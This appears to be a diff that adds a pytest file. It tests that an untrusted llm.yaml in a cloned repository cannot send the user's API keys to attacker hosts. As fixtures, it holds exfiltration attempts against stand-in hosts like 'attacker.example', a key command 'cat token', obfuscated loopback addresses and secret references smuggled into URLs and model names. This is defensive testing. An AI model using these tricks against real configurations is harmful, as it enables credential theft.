@@ -1,0 +1,419 @@
+"""An `llm.yaml` that nobody has trusted: only what is on a list has an effect, and no attack reaches anybody."""
+
+from __future__ import annotations
+
+import json
+from collections.abc import Callable, Iterator, Mapping
+from pathlib import Path
+from typing import Any
+
+import pytest
+from fault_server import Endpoint, FaultServer
+from faults import good
+from typer.testing import CliRunner
+
+from testronaut_llm import LLMError, LLMManager
+from testronaut_llm.cli.app import app
+from testronaut_llm.config.file import load_config
+from testronaut_llm.config.schema import SECTIONS
+from testronaut_llm.config.trust import ALLOWED, trust
+from testronaut_llm.gateway import load_litellm
+from testronaut_llm.local.ollama_provider import OllamaServer
+from testronaut_llm.model_config import LLMConfig, ModelConfig
+from testronaut_llm.provider_registry import readiness
+from testronaut_llm.providers.credentials import resolve_key
+from testronaut_llm.providers.table import find_provider
+
+SECRET = "canary-of-the-user-0123456789"
+KEYS = ("OPENAI_API_KEY", "ANTHROPIC_API_KEY", "AZURE_API_KEY", "GEMINI_API_KEY", "ANY_SECRET")
+
+REFUSED: Mapping[str, Mapping[str, Any]] = {
+    "LLMConfig": {"log": {"file": "stolen.jsonl"}},
+    "ModelConfig": {
+        "api_version": "v1", "base_model": "gpt-4o", "api_key_env": "ANY_SECRET", "api_key_file": "~/.token",
+        "api_key_command": "true", "keep_alive": "5m", "digest": "abcdef", "auto_pull": True, "local": True,
+        "dimensions": 3, "extra": {"a": 1},
+    },
+    "BudgetConfig": {"scope": "of-the-user"},
+    "CacheConfig": {"size_limit": 1},
+    "LogConfig": {"file": "x", "content": True, "max_bytes": 5, "backups": 5},
+}  # fmt: skip
+"""Each field that a file may not say until it is trusted, with a value that is not its default."""
+
+Write = Callable[..., Path]
+
+
+@pytest.fixture
+def write(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Write:
+    """Writes the `llm.yaml` of a cloned repository, and goes into it; the user's keys are in the environment."""
+    for name in KEYS:
+        monkeypatch.setenv(name, SECRET)
+    monkeypatch.chdir(tmp_path)
+
+    def write(models: Mapping[str, Any], task: Mapping[str, Any] | None = None, **sections: Any) -> Path:
+        tasks = {"t": {"models": list(models), "strategy": "as_listed", "retries": 0, **(task or {})}}
+        path = tmp_path / "llm.yaml"
+        path.write_text(json.dumps({"models": models, "tasks": tasks, **sections}))
+        return path
+
+    return write
+
+
+@pytest.fixture(scope="module")
+def server() -> Iterator[FaultServer]:
+    """Stands for every host that the attacker has."""
+    load_litellm()
+    with FaultServer() as made:
+        yield made
+
+
+@pytest.fixture
+def attacker(server: FaultServer, monkeypatch: pytest.MonkeyPatch) -> Endpoint:
+    """Records what arrives at any host but loopback, which is reached through it as a proxy, over plain http."""
+    endpoint = server.plan("attacker", good("Thank you."))
+    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
+        monkeypatch.setenv(name, endpoint.url)
+    monkeypatch.setenv("TESTRONAUT_LLM_ALLOW_HTTP_KEYS", "1")
+    return endpoint
+
+
+def test_each_field_is_on_the_list_or_known_to_be_refused() -> None:
+    """A new field has no effect in a stranger's file until somebody puts it on a list."""
+    for section in SECTIONS:
+        fields = {name for name, field in section.model_fields.items() if not field.exclude}
+        allowed, refused = ALLOWED.get(section.__name__, frozenset()), set(REFUSED.get(section.__name__, ()))
+        assert allowed | refused == fields, section.__name__
+        assert not allowed & refused, section.__name__
+
+
+@pytest.mark.parametrize("field", REFUSED["ModelConfig"])
+def test_a_row_that_says_more_than_it_may_is_not_ready(write: Write, field: str) -> None:
+    """The value is gone from the row, the reason says what trusting would change, and trusting changes it."""
+    value = REFUSED["ModelConfig"][field]
+    path = write({"m": {"model": "openai/gpt-4o-mini", field: value}, "fine": {"model": "openai/gpt-4o-mini"}})
+    config = load_config()
+    row = config.models["m"]
+    assert getattr(row, field) == ModelConfig.model_fields[field].get_default(call_default_factory=True)
+    found = readiness(row)
+    assert not found.ready
+    assert "not trusted" in found.missing
+    assert field in found.missing
+    assert found.mend == "read it, then run: testronaut-llm trust"
+    assert readiness(config.models["fine"]).ready
+    trust(path)
+    assert getattr(load_config().models["m"], field) not in (None, False, {})
+
+
+def test_what_a_row_may_say_is_kept(write: Write) -> None:
+    """Names, judgements, prices, windows and limits are nobody's secret."""
+    row = {
+        "model": "ollama/qwen3:8b", "api_base": "http://127.0.0.1:9", "quality": 7, "price": {"input": 1, "output": 2},
+        "context_window": 9, "max_output": 8, "num_ctx": 7, "reasoning": "off", "limits": {"rpm": 6},
+    }  # fmt: skip
+    assert set(row) == ALLOWED["ModelConfig"]
+    path = write({"m": row}, {"budget": {"per_day": 1}, "system": "s"}, budget={"per_day": 2}, cache={"ttl": "1d"})
+    before = load_config()
+    trust(path)
+    after = load_config()
+    assert (before.trusted, after.trusted, before.ignored) == (False, True, ())
+    assert before.model_dump() == after.model_dump()
+    assert before.models["m"].withheld == ()
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://attacker.openai.azure.com", "https://api.openai.com.attacker.example/v1", "http://10.0.0.1/v1",
+        "https://api.openai.com/v1", "http://127.0.0.1@attacker.example/v1", "http://localhost.attacker.example",
+        "//attacker.example", "attacker.example", "http://0x7f.1/", "http://[::ffff:10.0.0.1]/",
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("provider", ["openai", "anthropic", "azure", "ollama", "lm_studio", "gemini", "hosted_vllm"])
+def test_an_address_beyond_loopback_waits_for_trust(write: Write, provider: str, url: str) -> None:
+    """Whatever the provider, and however the address is written."""
+    write({"m": {"model": f"{provider}/x", "api_base": url}})
+    found = readiness(load_config().models["m"])
+    assert not found.ready
+    assert "api_base" in found.missing
+
+
+@pytest.mark.parametrize(
+    "provider", ["azure", "azure_ai", "databricks", "bedrock", "vertex_ai", "snowflake", "watsonx"]
+)
+def test_a_provider_without_a_host_of_its_own_waits_for_trust(
+    write: Write, provider: str, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """In a row, on loopback, in a task, and where the environment says the host."""
+    monkeypatch.setenv(f"{provider.upper()}_API_BASE", "http://127.0.0.1:9")
+    monkeypatch.setenv(f"{provider.upper()}_API_KEY", SECRET)
+    write({"m": {"model": f"{provider}/x"}, "n": {"model": f"{provider}/x", "api_base": "http://127.0.0.1:9"}})
+    config = load_config()
+    for row in (config.models["m"], config.models["n"], config.model(f"{provider}/y")):
+        found = readiness(row)
+        assert not found.ready
+        if row.alias != "n" or provider not in ("bedrock", "vertex_ai"):
+            assert f"{provider} has no fixed host" in found.missing
+
+
+def test_sections_about_this_machine_have_no_effect(write: Write) -> None:
+    """The user's store keeps its size and the user's budget its scope; nothing is logged; the models are ready."""
+    path = write(
+        {"m": {"model": "openai/gpt-4o-mini"}},
+        log={"file": "${HOME}/x.jsonl"}, cache={"size_limit": 1, "ttl": 5}, budget={"per_day": 1, "scope": "mine"},
+    )  # fmt: skip
+    config = load_config()
+    assert (config.log, config.cache.size_limit, config.cache.ttl) == (None, 1024**3, 5.0)
+    assert config.budget_scope() == str(path.resolve())
+    assert config.ignored == ("budget.scope ('mine')", "cache.size_limit (1)", "${HOME} in log.file")
+    assert readiness(config.models["m"]).ready
+    trust(path)
+    config = load_config()
+    assert (config.cache.size_limit, config.budget_scope(), config.ignored) == (1, "mine", ())
+    assert config.log is not None
+
+
+def test_a_stranger_does_not_empty_the_users_store(write: Write, server: FaultServer) -> None:
+    """`cache: {size_limit: 1}` of a cloned repository leaves the answers of other files where they are."""
+    api = server.plan("cached", good("Kept."))
+    row = {"model": "openai/gpt-4o-mini", "api_base": f"{api.url}/v1", "price": {"input": 1, "output": 1}}
+    own = LLMConfig(models={"m": row}, tasks={"t": {"models": ["m"]}})
+    with LLMManager(config=own) as llm:
+        assert not llm.complete("t", "hi").cached
+    write({"m": {**row, "quality": 6}}, cache={"size_limit": 1})
+    with LLMManager() as llm:
+        llm.complete("t", "another")
+    with LLMManager(config=own) as llm:
+        assert llm.complete("t", "hi", cache="only").cached
+
+
+PLACES: Mapping[str, tuple[dict[str, Any], dict[str, Any]]] = {
+    "model": ({"model": "openai/${ANY_SECRET}"}, {}),
+    "provider": ({"model": "${ANY_SECRET}"}, {}),
+    "api_base": ({"model": "openai/x", "api_base": "http://127.0.0.1:9/${ANY_SECRET}"}, {}),
+    "a number": ({"model": "openai/x", "num_ctx": "${ANY_SECRET}"}, {}),
+    "a price": ({"model": "openai/x", "price": {"input": "${ANY_SECRET}", "output": 1}}, {}),
+    "a limit of a row": ({"model": "openai/x", "limits": {"rpm": "${ANY_SECRET}"}}, {}),
+    "extra": ({"model": "openai/x", "extra": {"user": "${ANY_SECRET}"}}, {}),
+    "system": ({"model": "openai/x"}, {"system": "say ${ANY_SECRET}"}),
+    "models of a task": ({"model": "openai/x"}, {"models": ["openai/${ANY_SECRET}", "m"]}),
+    "a name in a task": ({"model": "openai/x"}, {"models": ["${ANY_SECRET}", "m"]}),
+    "the name of a task": ({"model": "openai/x"}, {"models": "${ANY_SECRET}"}),
+    "stop": ({"model": "openai/x"}, {"stop": ["${ANY_SECRET}"]}),
+    "a number of a task": ({"model": "openai/x"}, {"max_tokens": "${ANY_SECRET}"}),
+    "private": ({"model": "openai/x"}, {"private": "${ANY_SECRET}"}),
+    "budget of a task": ({"model": "openai/x"}, {"budget": {"per_day": "${ANY_SECRET}"}}),
+    "a default": ({"model": "openai/${UNSET:-gpt-4o-mini}"}, {}),
+    "a default in a task": ({"model": "openai/x"}, {"system": "${UNSET:-be brief}"}),
+}
+
+
+@pytest.mark.parametrize("place", PLACES)
+def test_nothing_is_filled_in(write: Write, place: str) -> None:
+    """No variable and no default, wherever it stands; each row that it concerns is not ready, and says so."""
+    row, task = PLACES[place]
+    write({"m": row}, task)
+    config = load_config()
+    rows = [config.models["m"], *(config.model(name) for name in config.task("t").models)]
+    assert SECRET not in f"{config!r}{config.model_dump()}{rows!r}{[vars(one) for one in rows]}"
+    for one in rows:
+        found = readiness(one)
+        assert not found.ready
+        assert "${" in found.missing
+        assert SECRET not in found.missing
+
+
+@pytest.mark.parametrize("section", [{"budget": {"per_day": "${N}"}}, {"limits": {"openai": {"rpm": "${N}"}}}], ids=str)
+def test_a_reference_in_a_section_keeps_every_model_waiting(write: Write, section: dict[str, Any]) -> None:
+    """A budget that nobody knows yet is no budget."""
+    write({"m": {"model": "openai/x"}}, **section)
+    assert f"${{N}} in {next(iter(section))}" in readiness(load_config().models["m"]).missing
+
+
+def test_the_key_stays_here_where_a_stranger_chose_the_port(write: Write, server: FaultServer) -> None:
+    """A server on loopback is asked, without a key, until the file is trusted."""
+    api = server.plan("port", good("Hello."))
+    path = write(
+        {"m": {"model": "anthropic/claude-haiku-4-5", "api_base": api.url, "price": {"input": 1, "output": 1}}}
+    )
+    assert "ANTHROPIC_API_KEY is not sent to its api_base" in readiness(load_config().models["m"]).note
+    with LLMManager() as llm:
+        assert llm.complete("t", "hi").text == "Hello."
+    assert not api.requests[-1].has_key("x-api-key", SECRET)
+    trust(path)
+    with LLMManager() as llm:
+        assert llm.complete("t", "hi again").text == "Hello."
+    assert api.requests[-1].has_key("x-api-key", SECRET)
+
+
+def test_no_key_leaves_by_another_door(write: Write) -> None:
+    """The gate is at the key itself, not only in readiness."""
+    write({"m": {"model": "azure/x", "api_base": "https://attacker.openai.azure.com"}, "o": {"model": "ollama/x:1b",
+          "api_base": "http://10.0.0.1"}})  # fmt: skip
+    config = load_config()
+    for row in config.models.values():
+        with pytest.raises(LLMError, match="testronaut-llm trust"):
+            resolve_key(row, find_provider(row.provider))
+    with pytest.raises(LLMError, match="testronaut-llm trust"):
+        OllamaServer.of(config.models["o"])
+
+
+def azure(url: str) -> dict[str, Any]:
+    """A row of a host that anybody can rent."""
+    return {"model": "azure/d", "api_base": url, "api_version": "v1", "price": {"input": 1, "output": 1}}
+
+
+RENTED = "http://attacker.openai.azure.com"
+ATTACKS: Mapping[str, dict[str, Any]] = {
+    "the usual key": azure(RENTED),
+    "another variable": {**azure(RENTED), "api_key_env": "ANY_SECRET"},
+    "a file": {**azure(RENTED), "api_key_file": "token"},
+    "a command": {**azure(RENTED), "api_key_command": "cat token"},
+    "the path": azure(RENTED + "/${ANY_SECRET}"),
+    "any host": {"model": "openai/x", "api_base": "http://attacker.example/v1", "price": {"input": 1, "output": 1}},
+}
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_nothing_arrives_at_a_rented_host(write: Write, attacker: Endpoint, attack: str, tmp_path: Path) -> None:
+    """Calls, streams, embeddings, `check` and warming up send nothing; trusted, the same file works as it was meant."""
+    (tmp_path / "token").write_text(SECRET)
+    (tmp_path / "token").chmod(0o600)
+    path = write({"m": ATTACKS[attack]})
+    with LLMManager() as llm:
+        for ask in (llm.complete, llm.embed, lambda *given: list(llm.stream(*given))):
+            with pytest.raises(LLMError, match="testronaut-llm trust"):
+                ask("t", "hi")
+    shown = CliRunner().invoke(app, ["check"])
+    assert "testronaut-llm trust" in shown.output
+    assert SECRET not in shown.output
+    assert attacker.requests == []
+    trust(path)
+    with LLMManager() as llm:
+        list(llm.stream("t", "hi"))
+    assert attacker.requests
+    if attack != "any host":
+        headers = ("api-key", "authorization")
+        assert any(attacker.requests[-1].has_key(header, SECRET) for header in headers)
+        assert (SECRET in attacker.requests[-1].path) == (attack == "the path")
+
+
+def test_extra_of_a_stranger_selects_no_host(write: Write, attacker: Endpoint, server: FaultServer) -> None:
+    """Not before the file is trusted, and not afterwards: these are no body fields of Anthropic."""
+    ours = server.plan("ours", good("Hello."))
+    extra = {"custom_llm_provider": "openai", "openai_base_url": "http://attacker.example/v1"}
+    row = {"model": "anthropic/claude-haiku-4-5", "api_base": ours.url, "price": {"input": 1, "output": 1}}
+    path = write({"m": {**row, "extra": extra}})
+    with LLMManager() as llm, pytest.raises(LLMError, match="testronaut-llm trust"):
+        llm.complete("t", "hi")
+    trust(path)
+    with LLMManager() as llm, pytest.raises(LLMError, match="'custom_llm_provider', no body field of anthropic"):
+        llm.complete("t", "hi")
+    assert attacker.requests == ours.requests == []
+    write({"m": {**row, "extra": {"top_k": 3}}})
+    trust(path)
+    with LLMManager() as llm:
+        assert llm.complete("t", "hi").text == "Hello."
+    assert ours.requests[-1].body["top_k"] == 3
+
+
+def test_a_strangers_model_is_not_pulled(write: Write, ollama: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The user's own Ollama is not told to fetch it from another registry, nor with a secret in its name."""
+    monkeypatch.setenv("OLLAMA_HOST", ollama.url)
+    ollama.has = False
+    name = "other.host/ns/${ANY_SECRET}"
+    rows = {"m": {"model": f"ollama/{name}", "auto_pull": True}, "n": {"model": "ollama/x", "auto_pull": "ask"}}
+    path = write({**rows, "p": {"model": "ollama/other.host/ns/x", "auto_pull": True}})
+    with LLMManager() as llm:
+        for alias in ("m", "n", "p"):
+            with pytest.raises(LLMError, match="testronaut-llm trust"):
+                llm.complete("t", "hi", model=alias)
+            with pytest.raises(LLMError, match="testronaut-llm trust"):
+                llm.warm_up(alias)
+    assert "/api/pull" not in ollama.paths
+    assert SECRET not in str(ollama.asked)
+    trust(path)
+    with LLMManager() as llm:
+        assert llm.complete("t", "hi", model="m").text == "Hello."
+    pulled = [json.loads(body)["model"] for asked, body in ollama.asked if asked == "/api/pull"]
+    assert pulled[:1] == [f"other.host/ns/{SECRET}"]
+
+
+def test_an_ollama_row_goes_to_the_users_own_server(write: Write, ollama: Any, monkeypatch: pytest.MonkeyPatch) -> None:
+    """The environment is the user's: where it says that Ollama is, a stranger's row may be answered."""
+    monkeypatch.setenv("OLLAMA_HOST", ollama.url)
+    write({"m": {"model": "ollama/small:1b", "num_ctx": 8192}})
+    with LLMManager() as llm:
+        assert llm.complete("t", "hi").text == "Hello."
+    monkeypatch.setenv("OPENAI_BASE_URL", "https://gateway.example/v1")
+    write({"m": {"model": "openai/gpt-4o-mini"}})
+    assert readiness(load_config().models["m"]).ready
+
+
+def test_check_says_what_trusting_would_change(write: Write, attacker: Endpoint) -> None:
+    """For each row, for the sections, and in JSON."""
+    write(
+        {"a": {**azure(RENTED), "api_key_env": "ANY_SECRET"}, "b": {"model": "openai/x"}},
+        {"models": ["a", "b", "azure/direct"]}, cache={"size_limit": 1},
+    )  # fmt: skip
+    shown = CliRunner().invoke(app, ["check", "--json"])
+    report = json.loads(shown.stdout)
+    notes = {one["alias"]: one["note"] for one in report["models"]}
+    assert report["ignored"] == ["cache.size_limit (1)"]
+    assert "api_base ('http://attacker.openai.azure.com'), api_version ('v1'), api_key_env ('ANY_SECRET')" in notes["a"]
+    assert "azure has no fixed host" in notes["a"]
+    assert "azure has no fixed host" in notes["azure/direct"]
+    assert notes["b"] == "key from OPENAI_API_KEY"
+    plain = CliRunner().invoke(app, ["check"]).output
+    assert "without effect until it is trusted: cache.size_limit (1); read it, then run: testronaut-llm trust" in plain
+
+
+def test_trust_without_a_name_means_the_file_in_use(
+    write: Write, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """The messages name the command alone, and the file may be some folders above."""
+    write({"m": {"model": "openai/x"}})
+    (tmp_path / "below").mkdir()
+    monkeypatch.chdir(tmp_path / "below")
+    assert not load_config().trusted
+    assert CliRunner().invoke(app, ["trust"]).exit_code == 0
+    assert load_config().trusted
+
+
+def test_a_row_stays_a_strangers_in_another_configuration(write: Write) -> None:
+    """Taken out of its file, as `models verify` does, it is no more trusted than before."""
+    write({"m": {"model": "ollama/x:1b", "auto_pull": True}})
+    row = load_config().models["m"]
+    other = LLMConfig(models={"m": row}, tasks={"t": {"models": ["m"]}})
+    assert not readiness(other.models["m"]).ready
+
+
+@pytest.mark.parametrize("field", ["trusted", "withheld", "unset", "alias"])
+def test_a_file_does_not_trust_itself(write: Write, field: str) -> None:
+    """What this package notes on a row is no key of the file."""
+    write({"m": {"model": "openai/x", field: True}})
+    with pytest.raises(LLMError, match=rf"models\.m\.{field}: unknown key"):
+        load_config()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "tasks: {t: ['${A}']}", "tasks: ['${A}']", "tasks: '${A}'", "models: {m: '${A}'}\ntasks: {}", "- ${A}",
+        "models: ['${A}']\ntasks: {}", "tasks: {t: {models: a/b}}\n'${A}': 1", "budget: ['${A}']", "log: '${A}'",
+    ],
+)  # fmt: skip
+def test_a_file_of_any_shape_is_an_error_of_ours(write: Write, text: str) -> None:
+    """A reference where a section belongs is told as the wrong shape that it is."""
+    write({}).write_text(text)
+    with pytest.raises(LLMError, match=r"llm\.yaml"):
+        load_config()
+
+
+def test_a_large_file_of_a_stranger_is_read_in_steps_that_grow_with_it(write: Write) -> None:
+    """Thousands of rows and references: what each row says of them stays short."""
+    rows = {f"m{n}": {"model": "openai/x", "digest": "abcdef"} for n in range(800)}
+    tasks = {f"t{n}": {"models": "m1", "system": "${A}"} for n in range(400)}
+    write({}).write_text(json.dumps({"models": rows, "tasks": tasks}))
+    config = load_config()
+    assert len(str(config.models["m7"].withheld)) < 500
+    assert len(readiness(config.models["m7"]).missing) < 600
